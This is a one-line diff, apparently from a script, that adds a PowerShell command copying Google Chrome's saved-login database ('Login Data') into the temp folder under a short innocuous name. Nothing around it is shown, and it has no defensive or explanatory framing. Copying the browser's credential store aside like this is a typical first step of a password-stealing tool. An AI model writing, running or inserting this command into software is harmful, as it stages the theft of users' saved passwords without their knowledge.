@@ -1,0 +1,1 @@
+Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data" "$env:TEMP\ld.db"
